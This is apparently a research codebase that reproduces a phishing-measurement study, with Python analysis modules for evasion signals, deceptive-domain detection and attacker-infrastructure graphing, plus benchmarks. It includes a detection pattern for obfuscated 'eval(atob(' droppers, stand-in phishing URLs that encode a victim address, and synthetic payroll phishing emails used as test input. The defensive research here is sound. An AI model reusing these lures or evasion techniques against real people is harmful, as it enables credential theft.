                result.faulty_qr += 1

        credential = _is_credential_message(record)
        if credential:
            result.credential_messages += 1

        message_flags = defaultdict(bool)
        hue_pages = 0
        for crawl in record.crawls:
            if crawl.signals is not None:
                message_flags["console"] |= crawl.signals.console_hijacked
                message_flags["debugger"] |= crawl.signals.uses_debugger_timer
                message_flags["contextmenu"] |= (
                    crawl.signals.context_menu_blocked or crawl.signals.devtools_keys_blocked
                )
                if crawl.signals.hue_rotation_deg:
                    hue_pages += 1
            message_flags["turnstile"] |= _uses_turnstile(crawl)
            message_flags["recaptcha"] |= _uses_recaptcha(crawl)
            message_flags["fplibs"] |= _uses_fingerprint_libraries(crawl)
            message_flags["uacloak"] |= _ua_tz_lang_probe(crawl)
            message_flags["httpbin"] |= any("httpbin.org" in url for url in crawl.ajax_urls)
            message_flags["ipapi"] |= any("ipapi.co" in url for url in crawl.ajax_urls)
            title = crawl.final_title.lower()
            if crawl.page_class == PageClass.GATED_LOGIN:
                snippet = crawl.final_text_snippet.lower()
                if "one-time password" in snippet or "verification required" in title:
                    message_flags["otp"] = True
                elif "solve" in snippet or "security check" in title:
                    message_flags["math"] = True

            # Cross-domain script clustering (obfuscated droppers only,
            # like the paper's shared victim-tracking scripts).
            for script in crawl.executed_scripts:
                if "eval(atob(" not in script:
                    continue
                digest = hashlib.sha256(script.encode("utf-8")).hexdigest()[:16]
                cluster = clusters.setdefault(
                    digest,
                    ScriptCluster(
                        script_hash=digest,
                        sample=script[:120],
                        decoded=_decode_dropper(script),
                    ),
                )
                if crawl.landing_domain:
                    cluster.domains.add(crawl.landing_domain)
                cluster.message_indices.add(record.message_index)

        if credential:
            result.turnstile += message_flags["turnstile"]
            result.recaptcha += message_flags["recaptcha"]
        result.console_hijack += message_flags["console"]
        result.debugger_timer += message_flags["debugger"]
        result.context_menu_block += message_flags["contextmenu"]
        result.ua_tz_lang_cloak += message_flags["uacloak"]
        result.httpbin += message_flags["httpbin"]
        result.ipapi += message_flags["ipapi"]
        result.otp_gate += message_flags["otp"]
        result.math_challenge += message_flags["math"]
        if message_flags["fplibs"]:
            result.fingerprint_libraries += 1
            fingerprint_times.append(record.delivered_at)
        if hue_pages:
            result.hue_rotate_messages += 1
            result.hue_rotate_pages += hue_pages

    if fingerprint_times:
        result.fingerprint_library_window = (min(fingerprint_times), max(fingerprint_times))
    result.shared_script_clusters = sorted(
        (cluster for cluster in clusters.values() if cluster.n_domains >= min_cluster_domains),
        key=lambda cluster: cluster.n_messages,
        reverse=True,
    )
    return result
