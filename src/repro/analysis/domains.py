"""Deceptive domain-syntax detection (Section V-A).

"Among these domains, only 15.7% (82/522) include combosquatting,
target embedding, homoglyphs, keyword stuffing, or typosquatting.  No
domain included punycode."  The detectors mirror the techniques the
corpus's name generators use; they operate purely on the host string
plus the list of protected brand tokens.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass

from repro.dataset.names import PHISHY_KEYWORDS
from repro.web.urls import is_punycode, registered_domain

_HOMOGLYPH_REVERSals = (
    ("rn", "m"),
    ("vv", "w"),
    ("1", "l"),
    ("0", "o"),
)


def _levenshtein_within(a: str, b: str, limit: int) -> bool:
    """Edit distance <= limit (banded dynamic programming)."""
    if abs(len(a) - len(b)) > limit:
        return False
    previous = list(range(len(b) + 1))
    for i, char_a in enumerate(a, start=1):
        current = [i] + [0] * len(b)
        row_min = current[0]
        for j, char_b in enumerate(b, start=1):
            current[j] = min(
                previous[j] + 1,
                current[j - 1] + 1,
                previous[j - 1] + (char_a != char_b),
            )
            row_min = min(row_min, current[j])
        if row_min > limit:
            return False
        previous = current
    return previous[-1] <= limit


def _degloyph(label: str) -> str:
    """Undo the ASCII homoglyph substitutions."""
    for fake, real in _HOMOGLYPH_REVERSals:
        label = label.replace(fake, real)
    return label


def classify_domain_syntax(host: str, brand_tokens: list[str]) -> str | None:
    """The deceptive technique a host uses, or None.

    ``brand_tokens`` are the lowercase brand names being protected
    (e.g. ``["amatravel", "skybooker", ...]``).
    """
    host = host.lower().rstrip(".")
    if is_punycode(host):
        return "punycode"

    registrable = registered_domain(host)
    main_label = registrable.split(".")[0]
    subdomain_labels = host[: -len(registrable)].rstrip(".").split(".") if host != registrable else []
    label_parts = main_label.split("-")

    for brand in brand_tokens:
        # Target embedding: the brand is a subdomain label of an
        # unrelated registrable domain.
        if any(label == brand for label in subdomain_labels) and brand not in main_label:
            return "target-embedding"
        # Combosquatting: the intact brand plus a meaningful extra token
        # in the registrable label.  A single residual character is more
        # likely a typosquat ("amatravell"), handled below.
        if brand in main_label and main_label != brand:
            remainder = main_label.replace(brand, "").strip("-")
            if len(remainder) >= 2:
                return "combosquatting"
        if main_label != brand:
            # Homoglyphs: reversing the substitutions yields the brand.
            if _degloyph(main_label) == brand:
                return "homoglyph"
            # Typosquatting: one edit away from the brand.
            if len(main_label) >= 4 and _levenshtein_within(main_label, brand, 1):
                return "typosquatting"

    # Keyword stuffing: three or more phishy keywords, no brand needed.
    keyword_hits = sum(1 for part in label_parts if part in PHISHY_KEYWORDS)
    if keyword_hits >= 3:
        return "keyword-stuffing"
    return None


@dataclass(frozen=True)
class DomainSyntaxSummary:
    total_domains: int
    deceptive: int
    punycode: int
    by_technique: tuple[tuple[str, int], ...]

    @property
    def deceptive_fraction(self) -> float:
        return self.deceptive / self.total_domains if self.total_domains else 0.0


def domain_syntax_summary(hosts: list[str], brand_tokens: list[str]) -> DomainSyntaxSummary:
    """Classify a set of landing domains."""
    counts: Counter = Counter()
    punycode = 0
    for host in hosts:
        technique = classify_domain_syntax(host, brand_tokens)
        if technique == "punycode":
            punycode += 1
        if technique is not None:
            counts[technique] += 1
    return DomainSyntaxSummary(
        total_domains=len(hosts),
        deceptive=sum(counts.values()),
        punycode=punycode,
        by_technique=tuple(sorted(counts.items())),
    )
