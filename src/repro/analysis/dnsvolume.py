"""DNS query-volume analysis (the Cisco Umbrella study of Section V-A).

"We examine the DNS query volumes for the malicious landing domains
during the last 30 days before the reception of their associated
message", contrasting single-message with multi-message domains and
flagging the one enormous-volume domain that is clearly not targeted.
"""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass

from repro.analysis import stats
from repro.core.artifacts import MessageRecord
from repro.core.outcomes import MessageCategory
from repro.enrichment.umbrella import PassiveDnsDatabase
from repro.web.urls import registered_domain

#: Registrable suffixes dropped from the volume analysis (compromised or
#: shared-hosting domains whose traffic is not phishing traffic).
EXCLUDED_SUFFIXES = (
    "vercel.app",
    "cloudflare-ipfs.com",
    "workers.dev",
    "r2.dev",
    "oraclecloud.com",
    "cloudfront.net",
)


@dataclass(frozen=True)
class DnsVolumeSummary:
    n_single_domains: int
    n_multi_domains: int
    single_median_max_daily: float
    single_median_total: float
    multi_median_max_daily: float
    multi_median_total: float
    #: (domain, message_count, 30-day total), descending by total.
    top_domains: tuple[tuple[str, int, int], ...]


def dns_volume_summary(
    records: list[MessageRecord],
    passive_dns: PassiveDnsDatabase,
    exclude_compromised: set[str] | None = None,
) -> DnsVolumeSummary:
    """Volume statistics for active-phishing landing domains."""
    message_counts: dict[str, int] = defaultdict(int)
    first_delivery: dict[str, float] = {}
    for record in records:
        if record.category != MessageCategory.ACTIVE_PHISHING:
            continue
        for domain in record.landing_domains:
            message_counts[domain] += 1
            first = first_delivery.get(domain)
            if first is None or record.delivered_at < first:
                first_delivery[domain] = record.delivered_at

    exclude_compromised = exclude_compromised or set()
    singles_max: list[float] = []
    singles_total: list[float] = []
    multi_max: list[float] = []
    multi_total: list[float] = []
    totals: list[tuple[str, int, int]] = []

    for domain, count in message_counts.items():
        if domain in exclude_compromised:
            continue
        if registered_domain(domain) != domain and any(
            domain.endswith(suffix) for suffix in EXCLUDED_SUFFIXES
        ):
            continue
        if not passive_dns.knows(domain):
            continue
        volumes = passive_dns.volume_stats(domain, before_hour=first_delivery[domain] + 24.0)
        totals.append((domain, count, volumes.total))
        if count == 1:
            singles_max.append(float(volumes.max_daily))
            singles_total.append(float(volumes.total))
        else:
            multi_max.append(float(volumes.max_daily))
            multi_total.append(float(volumes.total))

    totals.sort(key=lambda item: item[2], reverse=True)
    return DnsVolumeSummary(
        n_single_domains=len(singles_total),
        n_multi_domains=len(multi_total),
        single_median_max_daily=stats.median(singles_max) if singles_max else 0.0,
        single_median_total=stats.median(singles_total) if singles_total else 0.0,
        multi_median_max_daily=stats.median(multi_max) if multi_max else 0.0,
        multi_median_total=stats.median(multi_total) if multi_total else 0.0,
        top_domains=tuple(totals[:5]),
    )
