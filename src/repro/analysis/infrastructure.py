"""Attacker-infrastructure graphing and campaign pivoting.

Threat analysts link phishing deployments through shared infrastructure:
hosting IPs, sending domains, and — per Section V-C — identical
obfuscated scripts reused across dozens of landing domains ("an
obfuscated script shared between 38 distinct domains").  This module
builds that pivot graph (networkx) from analysis records and clusters
the landing domains into campaigns.
"""

from __future__ import annotations

from dataclasses import dataclass

import networkx as nx

from repro.analysis.evasion import measure_evasion_prevalence
from repro.core.artifacts import MessageRecord
from repro.core.outcomes import MessageCategory

#: Node kinds in the pivot graph.
KIND_DOMAIN = "domain"
KIND_IP = "ip"
KIND_SENDER = "sender"
KIND_SCRIPT = "script"


def build_infrastructure_graph(records: list[MessageRecord]) -> nx.Graph:
    """The pivot graph over active-phishing observations.

    Nodes are tagged with ``kind`` (domain/ip/sender/script); edges with
    ``via`` (hosting/lure/shared-script).
    """
    graph = nx.Graph()
    for record in records:
        if record.category != MessageCategory.ACTIVE_PHISHING:
            continue
        for crawl in record.crawls:
            domain = crawl.landing_domain
            if not domain or crawl.page_class not in ("login_form", "gated_login"):
                continue
            graph.add_node(domain, kind=KIND_DOMAIN)
            if crawl.server_ip:
                graph.add_node(crawl.server_ip, kind=KIND_IP)
                graph.add_edge(domain, crawl.server_ip, via="hosting")
            if record.sender_domain:
                sender = f"sender:{record.sender_domain}"
                graph.add_node(sender, kind=KIND_SENDER)
                graph.add_edge(domain, sender, via="lure")

    # Shared-script pivots: identical obfuscated droppers across domains.
    prevalence = measure_evasion_prevalence(records)
    for cluster in prevalence.shared_script_clusters:
        node = f"script:{cluster.script_hash}"
        graph.add_node(node, kind=KIND_SCRIPT, script_kind=cluster.kind)
        for domain in cluster.domains:
            if graph.has_node(domain):
                graph.add_edge(domain, node, via="shared-script")
    return graph


@dataclass(frozen=True)
class Campaign:
    """One connected component of the pivot graph."""

    domains: tuple[str, ...]
    ips: tuple[str, ...]
    senders: tuple[str, ...]
    shared_scripts: tuple[str, ...]

    @property
    def size(self) -> int:
        return len(self.domains)


def cluster_campaigns(graph: nx.Graph) -> list[Campaign]:
    """Connected components, largest first."""
    campaigns: list[Campaign] = []
    for component in nx.connected_components(graph):
        domains, ips, senders, scripts = [], [], [], []
        for node in sorted(component):
            kind = graph.nodes[node].get("kind")
            if kind == KIND_DOMAIN:
                domains.append(node)
            elif kind == KIND_IP:
                ips.append(node)
            elif kind == KIND_SENDER:
                senders.append(node.split(":", 1)[1])
            elif kind == KIND_SCRIPT:
                scripts.append(graph.nodes[node].get("script_kind", "other"))
        if domains:
            campaigns.append(
                Campaign(
                    domains=tuple(domains),
                    ips=tuple(ips),
                    senders=tuple(senders),
                    shared_scripts=tuple(scripts),
                )
            )
    campaigns.sort(key=lambda campaign: campaign.size, reverse=True)
    return campaigns


def pivot_from_domain(graph: nx.Graph, domain: str, max_hops: int = 2) -> list[str]:
    """Analyst pivot: related landing domains within ``max_hops`` edges."""
    if not graph.has_node(domain):
        return []
    reachable = nx.single_source_shortest_path_length(graph, domain, cutoff=max_hops)
    return sorted(
        node
        for node, hops in reachable.items()
        if node != domain and graph.nodes[node].get("kind") == KIND_DOMAIN
    )


@dataclass(frozen=True)
class InfrastructureSummary:
    n_domains: int
    n_campaigns: int
    largest_campaign_domains: int
    singleton_campaigns: int
    script_linked_campaigns: int


def summarize_infrastructure(records: list[MessageRecord]) -> InfrastructureSummary:
    """Campaign-level view of the landing infrastructure.

    The paper's low-volume finding reappears structurally: most
    campaigns are singletons (one domain, its host, its sender), while
    the shared victim-check scripts stitch together the two large
    multi-domain clusters.
    """
    graph = build_infrastructure_graph(records)
    campaigns = cluster_campaigns(graph)
    return InfrastructureSummary(
        n_domains=sum(campaign.size for campaign in campaigns),
        n_campaigns=len(campaigns),
        largest_campaign_domains=campaigns[0].size if campaigns else 0,
        singleton_campaigns=sum(1 for campaign in campaigns if campaign.size == 1),
        script_linked_campaigns=sum(1 for campaign in campaigns if campaign.shared_scripts),
    )
