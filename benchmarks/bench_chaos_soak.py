"""Chaos soak: the hostile fault profile must never kill a message.

Runs the sharded process-backend runner (jobs=4) over a corpus slice
with ``faults=hostile`` — the simulated internet injecting NXDOMAIN
flaps, SERVFAILs, connect timeouts, TLS handshake failures, 5xx/429
storms, mid-body stalls, truncation, and redirect loops — and asserts
the resilience contract end to end:

- zero dead letters and zero uncaught exceptions: every message
  degrades to a (possibly partial) record instead of dying;
- conservation: every message index comes back exactly once;
- :class:`~repro.web.resilient.FaultTelemetry` attached to every
  record, with the aggregate fault mix persisted as metrics;
- determinism: the jobs=4 process run exports byte-identical records
  to a jobs=1 thread run with the same fault seed.

The soak is expensive (every retry re-crawls), so it only runs when
``REPRO_CHAOS_SOAK`` is set — CI's chaos-soak job sets it; the default
bench sweep skips it.  Also runnable standalone::

    REPRO_CHAOS_SOAK=1 PYTHONPATH=src python benchmarks/bench_chaos_soak.py
"""

import argparse
import json
import os
import sys
import time

import pytest

from repro.core import CrawlerBox
from repro.core.export import export_records
from repro.runner import CorpusRunner, RunnerConfig

SAMPLE_SIZE = 200
SOAK_JOBS = 4
FAULT_PROFILE = "hostile"

BENCH_SCALE = float(os.environ.get("REPRO_BENCH_SCALE", "1.0"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "2024"))
FAULT_SEED = int(os.environ.get("REPRO_CHAOS_FAULT_SEED", str(BENCH_SEED)))

SOAK_ENABLED = bool(os.environ.get("REPRO_CHAOS_SOAK"))


def _make_runner(corpus, executor: str, jobs: int):
    return CorpusRunner(
        box_factory=lambda worker_id: CrawlerBox.for_world(corpus.world),
        jobs=jobs,
        executor=executor,
        config=RunnerConfig(seed=BENCH_SEED, scale=BENCH_SCALE,
                            faults=FAULT_PROFILE, fault_seed=FAULT_SEED),
    )


def _soak(corpus, sample, executor: str, jobs: int):
    """Run the hostile soak; returns (result, elapsed, export JSON)."""
    from repro.web.faults import FaultEngine, fault_profile

    # Process workers rebuild their world (fault engine included) from
    # the RunnerConfig; the thread backend shares *this* corpus's
    # network, so install the same engine here — and remove it after,
    # the corpus fixture is shared with the other benches.
    previous = corpus.world.network.faults
    corpus.world.network.install_faults(
        FaultEngine(fault_profile(FAULT_PROFILE), seed=FAULT_SEED))
    try:
        runner = _make_runner(corpus, executor, jobs)
        started = time.perf_counter()
        result = runner.run(sample)
        elapsed = time.perf_counter() - started
    finally:
        corpus.world.network.install_faults(previous)
    return result, elapsed, json.dumps(export_records(result.records))


def _check(result, sample_size: int) -> list[str]:
    """The resilience contract; returns a list of violations (empty = pass)."""
    violations = []
    if result.dead_letters:
        violations.append(f"{len(result.dead_letters)} dead letter(s): "
                          + ", ".join(letter.error for letter in result.dead_letters[:3]))
    indices = sorted(record.message_index for record in result.records)
    if indices != list(range(sample_size)):
        violations.append(f"conservation broken: {len(indices)}/{sample_size} records")
    missing = sum(1 for record in result.records if record.fault_telemetry is None)
    if missing:
        violations.append(f"{missing} record(s) without fault telemetry")
    return violations


@pytest.mark.skipif(not SOAK_ENABLED, reason="set REPRO_CHAOS_SOAK=1 to run the chaos soak")
def bench_chaos_soak(benchmark, full_corpus, comparison):
    sample = full_corpus.messages[:SAMPLE_SIZE]
    result, elapsed, export = _soak(full_corpus, sample, "process", SOAK_JOBS)

    violations = _check(result, len(sample))
    comparison.row("dead letters under hostile faults", 0, len(result.dead_letters))
    comparison.row("records (conservation)", len(sample), len(result.records))
    comparison.row("records with fault telemetry", len(sample),
                   sum(1 for r in result.records if r.fault_telemetry is not None))
    comparison.metric("messages", len(sample))
    comparison.metric("elapsed_seconds", elapsed)
    comparison.metric("msgs_per_sec", len(sample) / elapsed)

    stats = result.stats.as_dict().get("faults", {})
    for key in ("requests", "retries", "backoff_seconds", "deadline_hits",
                "breaker_trips", "unreachable", "budget_exhausted",
                "enrich_failures"):
        comparison.metric(f"fault_{key}", stats.get(key, 0))
    for kind, count in sorted(stats.get("kinds", {}).items()):
        comparison.metric(f"kind_{kind}", count)
    comparison.note("")
    comparison.note("injected fault mix: " + ", ".join(
        f"{kind}={count}" for kind, count in sorted(stats.get("kinds", {}).items())))

    # Same fault seed, jobs=1 thread backend: must be byte-identical.
    _, _, serial_export = _soak(full_corpus, sample, "thread", 1)
    identical = export == serial_export
    comparison.row("jobs=4 process == jobs=1 thread (byte-identical)", True, identical)
    comparison.metric("byte_identical", identical)

    assert not violations, "; ".join(violations)
    assert identical

    benchmark.pedantic(
        lambda: _make_runner(full_corpus, "process", SOAK_JOBS).run(sample),
        rounds=1, iterations=1)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--sample", type=int, default=SAMPLE_SIZE,
                        help=f"messages to soak (default {SAMPLE_SIZE})")
    parser.add_argument("--jobs", type=int, default=SOAK_JOBS)
    args = parser.parse_args(argv)

    from repro.dataset import CorpusGenerator

    print(f"Generating corpus (seed={BENCH_SEED}, scale={BENCH_SCALE}) ...")
    corpus = CorpusGenerator(seed=BENCH_SEED, scale=BENCH_SCALE).generate()
    sample = corpus.messages[:args.sample]
    print(f"  soaking {len(sample)} messages: faults={FAULT_PROFILE}, "
          f"fault-seed={FAULT_SEED}, executor=process, jobs={args.jobs}")

    result, elapsed, export = _soak(corpus, sample, "process", args.jobs)
    print(f"  {len(result.records)} records in {elapsed:.1f}s "
          f"({len(sample) / elapsed:.1f} msgs/sec), "
          f"{len(result.dead_letters)} dead letter(s)")
    stats = result.stats.as_dict().get("faults", {})
    print(f"  fault stats: {json.dumps(stats, sort_keys=True)}")

    violations = _check(result, len(sample))
    for violation in violations:
        print(f"  VIOLATION: {violation}")

    _, _, serial_export = _soak(corpus, sample, "thread", 1)
    identical = export == serial_export
    print(f"  jobs={args.jobs} process == jobs=1 thread = {identical}")
    return 0 if not violations and identical else 1


if __name__ == "__main__":
    sys.exit(main())
