"""Figure 1: the CrawlerBox pipeline, benchmarked end-to-end.

Figure 1 is the architecture diagram; its "reproduction" is the pipeline
itself.  This bench measures per-message analysis throughput (parse ->
dynamic load -> crawl -> classify -> enrich) over a representative slice
of the corpus and checks that every pipeline stage left artifacts.
"""

import random

from repro.core import CrawlerBox


def bench_fig1_pipeline_throughput(benchmark, full_corpus, comparison):
    sample = full_corpus.messages[:120]

    def run_pipeline():
        box = CrawlerBox.for_world(full_corpus.world, rng=random.Random(42))
        return [box.analyze(message, index) for index, message in enumerate(sample)]

    records = benchmark.pedantic(run_pipeline, rounds=3, iterations=1)
    comparison.row("messages analyzed per round", len(sample), len(records))
    comparison.note("")
    comparison.note("Pipeline stage artifact coverage over the sample:")
    with_auth = sum(1 for record in records if record.auth is not None)
    with_extraction = sum(1 for record in records if record.extraction is not None)
    with_crawls = sum(1 for record in records if record.crawls)
    with_category = sum(1 for record in records if record.category)
    comparison.row("  authentication evaluated", len(sample), with_auth)
    comparison.row("  parsing phase produced a report", len(sample), with_extraction)
    comparison.row("  crawling phase ran (messages with URLs)", "subset", with_crawls)
    comparison.row("  outcome classified", len(sample), with_category)
    assert with_auth == with_extraction == with_category == len(sample)
