"""Section V-A: spear-phishing identification via fuzzy screenshot hashes."""

from repro.analysis.figures import section5a_spear

from conftest import BENCH_SCALE


def bench_sec5a_spearphish(benchmark, full_corpus, full_records, comparison, calibration):
    summary = benchmark(section5a_spear, full_records, full_corpus.world)
    comparison.row("active phishing messages", 1551, summary.active_messages)
    comparison.row("spear phishing messages", "1137 (73.3%)",
                   f"{summary.spear_messages} ({100 * summary.spear_fraction:.1f}%)")
    comparison.row("pages hotlinking brand resources", "339 (29.8% of spear)",
                   f"{summary.hotlink_messages} ({100 * summary.hotlink_fraction:.1f}%)")
    comparison.row("distinct landing URLs", calibration.distinct_landing_urls, summary.distinct_landing_urls)
    comparison.row("distinct landing domains", calibration.distinct_landing_domains, summary.distinct_landing_domains)
    comparison.row("messages per domain (mean)", 2.62, round(summary.messages_per_domain_mean, 2))
    comparison.row("messages per domain (median)", 1.0, summary.messages_per_domain_median)
    comparison.row("messages per domain (max)", 58, summary.messages_per_domain_max)
    comparison.row(".ru registrars observed",
                   "REGRU-RU, R01-RU, RU-CENTER-RU, REGTIME-RU, OPENPROV-RU",
                   ", ".join(summary.ru_registrars))
    if BENCH_SCALE >= 1.0:
        assert 0.70 <= summary.spear_fraction <= 0.77
        assert summary.messages_per_domain_max == calibration.messages_per_domain_max
    else:  # reduced-scale quick runs keep only the qualitative shape
        assert summary.spear_fraction > 0.6
