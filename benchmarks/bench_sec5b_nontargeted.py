"""Section V-B: the non-targeted attacks."""

from repro.analysis.figures import section5b_nontargeted


def bench_sec5b_nontargeted(benchmark, full_corpus, full_records, comparison, calibration):
    summary = benchmark.pedantic(
        section5b_nontargeted, args=(full_records, full_corpus.world), rounds=2, iterations=1
    )
    comparison.row("non-targeted active messages", calibration.nontargeted_messages, summary.nontargeted_messages)
    comparison.note("")
    comparison.note("impersonated commodity brands (paper: unique-page messages;")
    comparison.note(" measured: distinct landing sites — duplicates collapse):")
    paper_counts = dict(calibration.nontargeted_brand_counts)
    measured = dict(summary.brand_counts)
    for brand, paper_count in calibration.nontargeted_brand_counts:
        comparison.row(f"  {brand}", paper_count, measured.get(brand, 0))
    comparison.row("HTML-attachment messages", calibration.html_attachment_messages, summary.html_attachment_messages)
    comparison.row("  loading locally without URL change", calibration.html_attachment_local_loading, summary.html_attachment_local)
    comparison.row("OTP-gated messages", calibration.otp_gate_messages, summary.otp_messages)
    comparison.row("math-challenge messages", calibration.math_challenge_messages, summary.math_messages)
    comparison.row("distinct non-targeted domains", calibration.nontargeted_domains, summary.distinct_domains)
    comparison.row("  with deceptive syntax", calibration.deceptive_domains_nontargeted, summary.deceptive_domains)
    # Shape: generic Microsoft + webmail dominate, DocuSign is rare.
    assert measured.get("DocuSign", 0) <= 2
    ranked = [brand for brand, _ in summary.brand_counts]
    assert set(ranked[:2]) <= {"Microsoft", "WebMail"}
