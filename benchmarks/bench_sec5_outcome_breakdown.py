"""Section V intro: outcome breakdown of the malicious messages."""

from repro.analysis.figures import outcome_breakdown
from repro.core.outcomes import MessageCategory


def bench_sec5_outcome_breakdown(benchmark, full_records, comparison, calibration):
    breakdown = benchmark(outcome_breakdown, full_records)
    rows = (
        ("no web resources", MessageCategory.NO_RESOURCES, 2572, "49.6%"),
        ("error pages", MessageCategory.ERROR, 823, "15.9%"),
        ("interaction required", MessageCategory.INTERACTION, 235, "4.5%"),
        ("downloads (ZIP/HTA)", MessageCategory.DOWNLOAD, 5, "0.1%"),
        ("active phishing", MessageCategory.ACTIVE_PHISHING, 1551, "29.9%"),
    )
    comparison.row("total malicious messages", calibration.total_malicious, breakdown.total)
    for label, category, paper_count, paper_fraction in rows:
        measured = breakdown.count(category)
        fraction = f"{100 * breakdown.fraction(category):.1f}%"
        comparison.row(f"{label}", f"{paper_count} ({paper_fraction})", f"{measured} ({fraction})")
    comparison.row("unclassified", 0, breakdown.count(MessageCategory.OTHER))
    comparison.note("")
    comparison.note("(the paper's five bucket counts sum to 5,186 for a stated total of")
    comparison.note(" 5,181; this reproduction shaves the fraud bucket by 5 to reconcile)")
    assert breakdown.count(MessageCategory.OTHER) == 0
    assert breakdown.count(MessageCategory.ACTIVE_PHISHING) > breakdown.count(MessageCategory.ERROR)
