"""Substrate micro-benchmarks: the pipeline's hot inner loops.

Not tied to a paper table; these keep the building blocks honest
(QR decode, OCR, perceptual hashing, script execution) and make
regressions visible.
"""

import random

from repro.imaging.phash import dhash, phash
from repro.imaging.ocr import ocr_image
from repro.imaging.render import render_lines
from repro.js import Interpreter
from repro.qr.encoder import qr_image
from repro.qr.scanner import decode_qr_image


def bench_qr_encode_decode(benchmark):
    def roundtrip():
        image = qr_image("https://evil-site.example/dhfYWfH#e=dmljdGltQGNvcnA=", scale=3)
        return decode_qr_image(image)

    payload = benchmark(roundtrip)
    assert payload.startswith("https://")


def bench_ocr_url_extraction(benchmark):
    image = render_lines(["YOUR MAILBOX IS FULL", "HTTPS://EVIL.EXAMPLE/RENEW"], scale=2)
    result = benchmark(ocr_image, image)
    assert "HTTPS://EVIL.EXAMPLE/RENEW" in result.text


def bench_perceptual_hashing(benchmark):
    from repro.browser.render import render_visual
    from repro.kits.brands import COMPANY_BRANDS

    image = render_visual(COMPANY_BRANDS[0].spec)

    def hash_both():
        return phash(image), dhash(image)

    p_value, d_value = benchmark(hash_both)
    assert p_value and d_value


def bench_phishscript_obfuscated_reveal(benchmark):
    from repro.kits.scripts import victim_check_script

    source = victim_check_script("a")

    def execute():
        interp = Interpreter(rng=random.Random(1))
        try:
            interp.run(source)
        except Exception:  # noqa: BLE001 - host objects absent; parse+eval cost only
            pass
        return interp.steps

    steps = benchmark(execute)
    assert steps > 0
