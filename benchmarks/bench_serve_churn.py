"""Connection-churn soak: a hostile client fleet against the hardened ingress.

Boots a real :class:`~repro.serve.server.ServeDaemon` with the hardened
connection lifecycle (tight line/idle deadlines, strike budget, session
cap) and runs the same well-behaved reporter twice per executor:

- **clean** — no hostile traffic at all: the reference records;
- **churn** — a deterministic hostile fleet (``--client-faults``, seeded
  by ``--client-fault-seed``) slowloris-trickles, idle-camps, fuzzes,
  floods, and flaps around the honest reporter for the whole run.

The contract (ISSUE 10): hostile clients may cost themselves whatever
they like, but they must never perturb honest work —

- the honest reporter's accepted records export **byte-identical** to
  the chaos-free run (hostile traffic never ticks the admission clock);
- zero accepted-record loss, zero dead letters, zero silent drops: no
  hostile line is ever admitted (fleet anomaly lists stay empty);
- the daemon's thread count stays bounded by the session cap plus its
  fixed threads — reaped sessions actually release their threads.

Results land in ``benchmarks/results/bench_serve_churn.json`` — CI's
serve-churn job uploads them as an artifact.

The sweep is gated on ``REPRO_SERVE_CHURN`` (CI's serve-churn job sets
it; the default bench sweep skips it).  Also runnable standalone::

    REPRO_SERVE_CHURN=1 PYTHONPATH=src python benchmarks/bench_serve_churn.py \\
        --client-faults hostile --executor both
"""

import argparse
import json
import os
import pathlib
import socket
import sys
import tempfile
import threading
import time

import pytest

from repro.serve import ServeClient, ServeConfig, ServeDaemon
from repro.serve.netchaos import (
    CLIENT_FAULT_PROFILES,
    ClientFaultEngine,
    client_fault_profile,
    run_chaos_fleet,
)

BENCH_SCALE = float(os.environ.get("REPRO_BENCH_SCALE", "1.0"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "2024"))
CHURN_ENABLED = bool(os.environ.get("REPRO_SERVE_CHURN"))

MESSAGES = int(os.environ.get("REPRO_SERVE_CHURN_MESSAGES", "12"))
CHAOS_CLIENTS = int(os.environ.get("REPRO_SERVE_CHURN_CLIENTS", "3"))
OPS_PER_CLIENT = int(os.environ.get("REPRO_SERVE_CHURN_OPS", "16"))
JOBS = int(os.environ.get("REPRO_SERVE_CHURN_JOBS", "2"))
FAULT_PROFILE = os.environ.get("REPRO_SERVE_CHURN_PROFILE", "hostile")
FAULT_SEED = int(os.environ.get("REPRO_SERVE_CHURN_FAULT_SEED", str(BENCH_SEED)))

RESULTS_PATH = (pathlib.Path(__file__).parent / "results"
                / "bench_serve_churn.json")

#: The hardened lifecycle under test.  Deadlines short enough that the
#: fleet's trickles and camps are reaped in under a second each (hours
#: of real-world abuse compressed into a CI-sized soak), long enough
#: that an honest reporter on a loaded runner is never reaped by
#: accident — submissions arrive in one send, and a reporter awaiting
#: verdicts defers the idle clock.
HARDENED = dict(
    line_deadline=0.5,
    idle_timeout=1.0,
    send_deadline=5.0,
    strike_budget=3,
    max_sessions=8,
)


def _eml(i: int) -> bytes:
    return (
        f"From: \"Payroll\" <update@payroll{i % 13}.example.ru>\n"
        f"To: staff{i}@corp.example\n"
        f"Subject: Direct deposit suspended {i}\n"
        f"MIME-Version: 1.0\n"
        f"Content-Type: text/html; charset=utf-8\n"
        f"\n"
        f"<html><body><p>Action required {i}</p>"
        f"<a href=\"https://verify-{i % 7}.payroll.example/login\">Restore</a>"
        f"</body></html>\n"
    ).encode()


def _honest_run(port: int, count: int) -> dict:
    """One well-behaved reporter: submit, await every verdict, report."""
    with ServeClient("127.0.0.1", port, timeout=600) as client:
        outcomes = [
            client.submit_with_retry(_eml(i), reporter="honest")
            for i in range(count)
        ]
        # Verdicts interleave with later acks, so earlier outcomes may
        # already have been upgraded past "accepted" here.
        accepted = all(o.accepted for o in outcomes)
        client.wait_verdicts(timeout=600)
    return {
        "accepted": accepted,
        "all_verdicts": all(o.status == "verdict" for o in outcomes),
        "indices": [o.message_index for o in outcomes],
        "retries": sum(o.retries for o in outcomes),
    }


def _http_stats(port: int) -> dict:
    """A final ``GET /stats`` snapshot, taken after the fleet is done
    so the ingress counters cover the whole churn."""
    conn = socket.create_connection(("127.0.0.1", port), timeout=30)
    try:
        conn.sendall(b"GET /stats HTTP/1.0\r\n\r\n")
        chunks = []
        while True:
            chunk = conn.recv(65536)
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        conn.close()
    return json.loads(b"".join(chunks).split(b"\r\n\r\n", 1)[1])


def _drive(directory, executor: str, count: int,
           profile=None, fault_seed: int = 0,
           clients: int = 0, ops: int = 0) -> dict:
    """One daemon lifecycle; with a profile, a hostile fleet churns
    around the honest reporter for the whole run."""
    config = ServeConfig(
        seed=BENCH_SEED, scale=BENCH_SCALE, jobs=JOBS, executor=executor,
        **HARDENED,
    )
